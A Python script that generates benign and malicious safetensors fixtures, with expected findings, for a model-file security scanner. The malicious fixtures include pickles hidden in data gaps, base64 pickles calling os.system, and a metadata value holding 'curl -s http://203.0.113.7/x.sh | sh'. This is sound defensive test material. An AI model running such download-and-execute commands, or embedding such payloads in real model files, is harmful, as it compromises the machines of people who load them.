#!/usr/bin/env python3
"""Writes modelaudit's safetensors fixtures and their manifest.

Run from anywhere: ``/usr/bin/python3 scripts/make_safetensors_fixtures.py`` (Debian's python3 with numpy and
torch). Re-running gives byte-identical files.

Outputs:
  fixtures/safetensors/benign/*        files in the reference layout: several dtypes, empty tensors, with and
                                       without ``__metadata__``, real-world metadata, a safetensors named .bin
  fixtures/safetensors/malicious/*     one file per check of the scanner, with its exact findings
  fixtures/safetensors/expected.json   the exact findings each file must produce

The ``safetensors`` package cannot be installed here, so ``serialize`` follows the reference writer
(``prepare`` and ``serialize`` in huggingface/safetensors ``safetensors/src/tensor.rs``): tensors sorted by
descending dtype (the ``Dtype`` enum order) then by name, offsets laid end to end from 0, the header as
compact JSON with ``__metadata__`` first, padded with spaces to a multiple of 8, its length as a
little-endian u64. Every benign file is checked against numpy: each tensor read back at its offsets with
``np.frombuffer`` equals the array it was written from, the offsets equal running sums of numpy's
``nbytes``, and the buffer ends with the file. The writer reproduces byte for byte the output the crate's own
``test_serialization`` expects (``REFERENCE_SERIALIZATION``). BF16 bytes come from torch's own bfloat16 conversion, F8_E4M3
and F4 bytes from their bit layouts (torch 1.13 has neither type).

SAFETY: nothing is ever loaded or unpickled. The payload pickle (from make_numpy_fixtures) is assembled byte
by byte and runs the harmless ``echo pwned``.
"""

from __future__ import annotations

from debian_python import reexec_if_needed  # noqa: E402

if __name__ == "__main__":
    reexec_if_needed(__file__, ("numpy", "torch"))

import base64  # noqa: E402
import json  # noqa: E402
import struct  # noqa: E402

import numpy as np  # noqa: E402
import torch  # noqa: E402

from fixture_manifest import ROOT, build_manifest, expected_finding, python_version, write_fixtures  # noqa: E402
from make_numpy_fixtures import Fixture, os_system_pickle  # noqa: E402

OUT = ROOT / "fixtures" / "safetensors"
MAX_FIXTURE_BYTES = 64 * 1024
MAX_AREA_BYTES = 200 * 1024
N_LEN = 8

# tensor.rs `Dtype`, in enum order (the writer sorts by it, descending), with bits per element.
DTYPES = ["BOOL", "F4", "F6_E2M3", "F6_E3M2", "U8", "I8", "F8_E5M2", "F8_E4M3", "F8_E8M0", "F8_E4M3FNUZ",
          "F8_E5M2FNUZ", "I16", "U16", "F16", "BF16", "I32", "U32", "F32", "C64", "F64", "I64", "U64"]
NUMPY_DTYPES = {"BOOL": np.bool_, "U8": np.uint8, "I8": np.int8, "I16": np.int16, "U16": np.uint16,
                "F16": np.float16, "I32": np.int32, "U32": np.uint32, "F32": np.float32, "F64": np.float64,
                "I64": np.int64, "U64": np.uint64, "C64": np.complex64}

PAYLOAD = os_system_pickle()


def finding(rule: str, position: int | None = None, key_path: str | None = None, *, path: str = "",
            severity: str | None = None, **details) -> dict:
    """One expected finding at ``position`` and ``key_path``; ``details`` is the subset that must match."""
    return expected_finding(rule, path, position, severity=severity, details=details, key_path=key_path)


class Tensor:
    """A tensor to write: its dtype name, shape and little-endian bytes (and the numpy array they encode)."""

    def __init__(self, dtype: str, shape: list[int], data: bytes, array: np.ndarray | None = None):
        self.dtype, self.shape, self.data, self.array = dtype, shape, data, array


def from_numpy(array: np.ndarray, dtype: str) -> Tensor:
    array = np.ascontiguousarray(array, dtype=NUMPY_DTYPES[dtype]).astype(np.dtype(NUMPY_DTYPES[dtype]).newbyteorder("<"))
    return Tensor(dtype, list(array.shape), array.tobytes(), array)


def bf16(values: list[float], shape: list[int]) -> Tensor:
    """BF16 bytes as torch converts float32 to bfloat16 (round to nearest even)."""
    bits = torch.tensor(values, dtype=torch.float32).to(torch.bfloat16).view(torch.int16).numpy()
    return Tensor("BF16", shape, bits.astype("<i2").tobytes())


TORCH_DTYPES = {torch.float32: "F32", torch.float64: "F64", torch.float16: "F16", torch.int64: "I64",
                torch.int32: "I32", torch.int16: "I16", torch.int8: "I8", torch.uint8: "U8", torch.bool: "BOOL"}


def from_torch(tensor: torch.Tensor) -> Tensor:
    """A torch tensor as safetensors' torch binding writes it: its dtype, shape and contiguous bytes."""
    tensor = tensor.detach().contiguous()
    if tensor.dtype == torch.bfloat16:
        return bf16(tensor.float().flatten().tolist(), list(tensor.shape))
    return from_numpy(tensor.numpy(), TORCH_DTYPES[tensor.dtype])


# F8_E4M3 (e4m3fn): sign, 4 exponent bits (bias 7), 3 mantissa bits.
E4M3 = {1.0: 0x38, 2.0: 0x40, 0.5: 0x30, -1.0: 0xB8}


def serialize(tensors: dict[str, Tensor], metadata: dict[str, str] | None = None) -> bytes:
    """The reference writer's layout (tensor.rs ``prepare`` + ``serialize``); metadata keys sorted for
    determinism (Rust's HashMap order is arbitrary)."""
    order = sorted(tensors, key=lambda name: (-DTYPES.index(tensors[name].dtype), name))
    header: dict = {}
    if metadata is not None:
        header["__metadata__"] = dict(sorted(metadata.items()))
    offset = 0
    for name in order:
        t = tensors[name]
        header[name] = {"dtype": t.dtype, "shape": t.shape, "data_offsets": [offset, offset + len(t.data)]}
        offset += len(t.data)
    raw = json.dumps(header, separators=(",", ":"), ensure_ascii=False).encode()
    raw += b" " * (-len(raw) % N_LEN)
    return struct.pack("<Q", len(raw)) + raw + b"".join(tensors[name].data for name in order)


# The bytes the reference crate's own test expects of its writer (tensor.rs `test_serialization`: "attn.0",
# F32, shape [1, 2, 3], values 0..5, no metadata): `serialize` must reproduce them exactly.
REFERENCE_SERIALIZATION = bytes([
    64, 0, 0, 0, 0, 0, 0, 0, 123, 34, 97, 116, 116, 110, 46, 48, 34, 58, 123, 34, 100,
    116, 121, 112, 101, 34, 58, 34, 70, 51, 50, 34, 44, 34, 115, 104, 97, 112, 101, 34,
    58, 91, 49, 44, 50, 44, 51, 93, 44, 34, 100, 97, 116, 97, 95, 111, 102, 102, 115,
    101, 116, 115, 34, 58, 91, 48, 44, 50, 52, 93, 125, 125, 0, 0, 0, 0, 0, 0, 128, 63,
    0, 0, 0, 64, 0, 0, 64, 64, 0, 0, 128, 64, 0, 0, 160, 64,
])


def assemble(header: str | bytes, data: bytes = b"", length: int | None = None) -> bytes:
    """A file from a hand-written header (for the malicious twins): the length is the header's unless given."""
    raw = header.encode() if isinstance(header, str) else header
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def check_against_numpy(data: bytes, tensors: dict[str, Tensor]) -> None:
    """Reads the file back as the spec says and compares with what was written."""
    (n,) = struct.unpack("<Q", data[:N_LEN])
    header = json.loads(data[N_LEN:N_LEN + n])
    start = N_LEN + n
    expected_offset = 0
    by_offset = sorted(((k, v) for k, v in header.items() if k != "__metadata__"), key=lambda kv: kv[1]["data_offsets"])
    for name, info in by_offset:
        t = tensors[name]
        begin, end = info["data_offsets"]
        assert begin == expected_offset, (name, begin, expected_offset)
        assert info["shape"] == t.shape and info["dtype"] == t.dtype, name
        if t.array is not None:
            assert end - begin == t.array.nbytes, name
            back = np.frombuffer(data[start + begin:start + end], dtype=t.array.dtype).reshape(t.shape)
            assert np.array_equal(back, t.array), name
        else:
            assert data[start + begin:start + end] == t.data, name
        expected_offset = end
    assert start + expected_offset == len(data), "the data buffer ends with the file"


def at(data: bytes, needle: str, nth: int = 0) -> int:
    """Byte offset in ``data`` of the ``nth`` occurrence of ``needle``."""
    pos = -1
    for _ in range(nth + 1):
        pos = data.index(needle.encode(), pos + 1)
    return pos


def benign() -> list[Fixture]:
    fixtures = []

    def add(file: str, technique: str, tensors: dict[str, Tensor], metadata: dict[str, str] | None = None):
        data = serialize(tensors, metadata)
        check_against_numpy(data, tensors)
        fixtures.append(Fixture(file, "benign", "safetensors", technique, data, []))

    reference = {"attn.0": from_numpy(np.arange(6).reshape(1, 2, 3), "F32")}
    assert serialize(reference) == REFERENCE_SERIALIZATION, "the writer departs from the reference crate's output"
    add("benign/reference_vector.safetensors", "the exact bytes of the reference crate's test_serialization", reference)
    rng = np.random.default_rng(0)
    add("benign/many_dtypes.safetensors", "every common dtype, metadata {format: pt}", {
        "embed.weight": from_numpy(rng.standard_normal((4, 3)), "F32"),
        "layer.f16": from_numpy(rng.standard_normal((2, 2)), "F16"),
        "layer.f64": from_numpy([1.5, -2.25], "F64"),
        "layer.bf16": bf16([1.0, -0.5, 3.140625], [3]),
        "ids.i64": from_numpy([1, 2, 3], "I64"),
        "ids.i32": from_numpy([[7], [8]], "I32"),
        "ids.i8": from_numpy([-1, 1], "I8"),
        "ids.u8": from_numpy([0, 255], "U8"),
        "mask": from_numpy([True, False, True], "BOOL"),
        "fp8.scale": Tensor("F8_E4M3", [4], bytes(E4M3[v] for v in (1.0, 2.0, 0.5, -1.0))),
        "fp4.packed": Tensor("F4", [4], bytes([0x21, 0x43])),  # 4 elements of 4 bits: 2 bytes
    }, {"format": "pt"})
    add("benign/no_metadata.safetensors", "tensors only, no __metadata__", {
        "weight": from_numpy(rng.standard_normal((3, 3)), "F32"),
        "bias": from_numpy(np.zeros(3), "F32"),
    })
    add("benign/empty_tensors.safetensors", "empty tensors and a scalar share offsets legitimately", {
        "empty": from_numpy(np.zeros((0,)), "F32"),
        "empty_2d": from_numpy(np.zeros((2, 0)), "F16"),
        "scalar": from_numpy(np.array(3.5), "F64"),
        "weight": from_numpy([1.0, 2.0], "F32"),
    }, {"format": "pt"})
    add("benign/no_tensors.safetensors", "a header with no tensor at all", {})
    thumbnail = base64.b64encode(bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e0a8c2b10000000049454e44ae426082")).decode()
    add("benign/training_metadata.safetensors", "LoRA-style metadata: training notes, licence, links, thumbnail", {
        "lora_up.weight": from_numpy(rng.standard_normal((4, 2)), "F16"),
        "lora_down.weight": from_numpy(rng.standard_normal((2, 4)), "F16"),
    }, {
        "format": "pt",
        "ss_training_comment": "Fine-tuned for 10 epochs on 2,000 captioned images; eval loss 0.41. "
                               "Run `python train.py --lr 1e-4` to reproduce.",
        "ss_tag_frequency": json.dumps({"img": {"1girl": 120, "outdoors": 40}}),
        "modelspec.title": "Example LoRA",
        "modelspec.license": "Permission is hereby granted, free of charge, to any person obtaining a copy of "
                             "this software (the MIT License).",
        "modelspec.thumbnail": "data:image/png;base64," + thumbnail,
        "source": "https://huggingface.co/runwayml/stable-diffusion-v1-5",
        "training_code": "https://github.com/kohya-ss/sd-scripts",
        "ss_network_args": json.dumps({"conv_dim": "4", "algo": "lora"}),
    })
    tensors = {"weight": from_numpy([[1.0, 2.0]], "F32")}
    data = serialize(tensors, {"format": "pt"})
    check_against_numpy(data, tensors)
    fixtures.append(Fixture("benign/pytorch_model.bin", "benign", "safetensors",
                            "safetensors under a generic name: found by content", data, []))
    # Older writers listed tensors by name, not by offset: the reference loader sorts them (Metadata::try_from).
    unsorted = ('{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]},'
                '"b":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}')
    fixtures.append(Fixture("benign/name_ordered_header.safetensors", "benign", "safetensors",
                            "header in name order, offsets out of order", assemble(unsorted, bytes(8)), []))
    return fixtures


F32_W = '"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'


def malicious() -> list[Fixture]:
    fixtures = []

    def add(file: str, technique: str, data: bytes, findings: list[dict]):
        fixtures.append(Fixture(f"malicious/{file}", "malicious", "safetensors", technique, data, findings))

    header = "{" + F32_W + "}"
    add("length_wraps.safetensors", "header length 2^64-8: 8 + length wraps to 0",
        assemble(header, bytes(8), length=2**64 - 8), [finding("MA320", 0, reason="HeaderTooLarge")])
    add("length_past_eof.safetensors", "header length larger than the file",
        assemble(header, bytes(8), length=4096), [finding("MA320", 0, reason="InvalidHeaderLength")])

    bad = '{"w":{"dtype":\'F32\',"shape":[2],"data_offsets":[0,8]}}'
    data = assemble(bad, bytes(8))
    add("header_not_json.safetensors", "single-quoted string in the header", data, [finding("MA321", at(data, "'F32'"))])
    trailing = header + '{"w":{"dtype":"I32","shape":[2],"data_offsets":[0,8]}}'
    data = assemble(trailing, bytes(8))
    add("header_second_object.safetensors", "a second JSON object after the header's", data,
        [finding("MA321", N_LEN + len(header), reason="data after the JSON value")])

    dup = "{" + F32_W + ',"w":{"dtype":"I32","shape":[2],"data_offsets":[0,8]}}'
    data = assemble(dup, struct.pack("<2f", 1.0, 2.0))
    add("duplicate_tensor.safetensors", "one tensor name twice: F32 for first-wins parsers, I32 for the loader",
        data, [finding("MA322", at(data, '"w"', 1), "$.w", key="w", firstPosition=at(data, '"w"'))])
    dup_meta = '{"__metadata__":{"format":"pt"},' + F32_W + ',"__metadata__":{"format":"pt","x":"y"}}'
    data = assemble(dup_meta, bytes(8))
    add("duplicate_metadata.safetensors", "__metadata__ twice: refused by the loader, read by Python's json",
        data, [finding("MA322", at(data, '"__metadata__"', 1), "$.__metadata__", key="__metadata__")])

    data = assemble('{"w":{"dtype":"F128","shape":[1],"data_offsets":[0,16]}}', bytes(16))
    add("unknown_dtype.safetensors", "a dtype the reference loader does not know", data,
        [finding("MA323", at(data, '"F128"'), "$.w.dtype", field="dtype")])
    data = assemble('{"w":{"dtype":"F32","shape":[-1,2],"data_offsets":[0,8]}}', bytes(8))
    add("negative_shape.safetensors", "a negative dimension", data, [finding("MA323", at(data, "[-1"), "$.w.shape", field="shape")])
    data = assemble('{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"note":"hidden"}}', bytes(8))
    add("extra_tensor_field.safetensors", "a tensor field the loader ignores", data,
        [finding("MA323", at(data, '"hidden"'), "$.w.note", field="note")])

    data = assemble('{"w":{"dtype":"F32","shape":[1024,1024],"data_offsets":[0,16]}}', bytes(16))
    add("size_mismatch.safetensors", "shape needs 4 MiB, offsets span 16 bytes", data,
        [finding("MA324", at(data, "[0,16]"), "$.w.data_offsets", reason="TensorInvalidInfo", expectedBytes=4194304, spanBytes=16)])
    data = assemble('{"w":{"dtype":"F32","shape":[4294967296,4294967296,16],"data_offsets":[0,16]}}', bytes(16))
    add("shape_overflow.safetensors", "element count 2^68 wraps to 0 in 64 bits", data,
        [finding("MA324", at(data, "[0,16]"), "$.w.data_offsets", severity="critical", reason="ValidationOverflow")])
    data = assemble('{"w":{"dtype":"F4","shape":[3],"data_offsets":[0,2]}}', bytes(2))
    add("misaligned_f4.safetensors", "three 4-bit elements: not a whole number of bytes", data,
        [finding("MA324", at(data, "[0,2]"), "$.w.data_offsets", reason="MisalignedSlice")])

    overlap = ('{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
               '"b":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}}')
    data = assemble(overlap, bytes(24))
    add("overlapping_tensors.safetensors", "two tensors share 8 bytes", data,
        [finding("MA325", at(data, "[8,24]"), "$.b.data_offsets", reason="overlap", overlaps="a")])
    gap_end = 8 + len(PAYLOAD.data)
    gap = ('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
           f'"b":{{"dtype":"F32","shape":[2],"data_offsets":[{gap_end},{gap_end + 8}]}}}}')
    raw = gap.encode()
    data_start = N_LEN + len(raw)
    data = assemble(raw, bytes(8) + PAYLOAD.data + bytes(8))
    add("gap_hides_pickle.safetensors", "a pickle in bytes between two tensors", data,
        [finding("MA325", at(data, f"[{gap_end}"), "$.b.data_offsets", reason="gap", gapStart=8, gapEnd=gap_end)]
        + PAYLOAD.findings(path=f"<gap@{data_start + 8}>"))
    data = assemble('{"w":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}', bytes(8))
    add("end_before_begin.safetensors", "data_offsets [8, 0]: the buffer's bytes belong to no tensor", data,
        [finding("MA325", at(data, "[8,0]"), "$.w.data_offsets", reason="end before begin"),
         finding("MA327", len(data) - 8, extraBytes=8)])
    data = assemble(header, bytes(4))
    add("truncated.safetensors", "the last tensor ends past the end of the file", data,
        [finding("MA326", at(data, "[0,8]"), "$.w.data_offsets", needed=8, available=4)])
    data = assemble(header, bytes(8) + PAYLOAD.data)
    trailing_at = len(data) - len(PAYLOAD.data)
    add("trailing_pickle.safetensors", "a pickle after the data buffer", data,
        [finding("MA327", trailing_at, extraBytes=len(PAYLOAD.data))] + PAYLOAD.findings(path=f"<trailing@{trailing_at}>"))

    data = assemble('{"__metadata__":{"config":{"layers":[1,2]}},' + F32_W + "}", bytes(8))
    add("metadata_not_strings.safetensors", "a nested object in __metadata__", data,
        [finding("MA328", at(data, '{"layers"'), "$.__metadata__.config", key="config")])
    note = "curl -s http://203.0.113.7/x.sh | sh"
    data = assemble(json.dumps({"__metadata__": {"format": "pt", "note": note}, "w": json.loads("{" + F32_W + "}")["w"]},
                               separators=(",", ":")), bytes(8))
    where = at(data, '"curl')
    add("metadata_shell_pipe.safetensors", "a metadata value piping a download from a raw IP into sh", data,
        [finding("MA011", where, "$.__metadata__.note", indicator="shell-pipe"),
         finding("MA011", where, "$.__metadata__.note", indicator="raw-ip-url")])
    encoded = base64.b64encode(PAYLOAD.data).decode()
    data = assemble('{"__metadata__":{"format":"pt","blob":"' + encoded + '"},' + F32_W + "}", bytes(8))
    where = at(data, '"' + encoded)
    add("metadata_base64_pickle.safetensors", "a base64 pickle calling os.system in a metadata value", data,
        [finding("MA012", where, "$.__metadata__.blob", payload="pickle", encoding="base64")] + PAYLOAD.findings(path=f"<base64@{where}>"))
    source = "import os; os.system('echo pwned')"
    data = assemble('{"__metadata__":{"hook":"' + source + '"},' + F32_W + "}", bytes(8))
    add("metadata_python_source.safetensors", "Python source calling os.system in a metadata value", data,
        [finding("MA012", at(data, '"import'), "$.__metadata__.hook", payload="code", calls=["os.system"])])
    return fixtures


ASSUMPTIONS = [
    "The reference loader is the Rust crate safetensors (tensor.rs: MAX_HEADER_SIZE 100,000,000, "
    "read_metadata, Metadata::validate, Dtype), which Python's safe_open and load_file call.",
    "serde_json keeps the last of two tensors with one name and refuses a repeated __metadata__ or tensor "
    "field; Python's json keeps the last of every repeated key.",
    "Findings in nested payloads (<gap@N>, <trailing@N>, <base64@N>) are the payload's security findings: "
    "the payload is scanned on a guess (opportunistic).",
]


def main() -> None:
    fixtures = malicious() + benign()
    versions = {"python": python_version(), "numpy": np.__version__, "torch": torch.__version__}
    manifest = build_manifest("scripts/make_safetensors_fixtures.py", versions, ASSUMPTIONS, fixtures)
    write_fixtures(OUT, fixtures, manifest, max_fixture_bytes=MAX_FIXTURE_BYTES, max_total_bytes=MAX_AREA_BYTES)


if __name__ == "__main__":
    main()
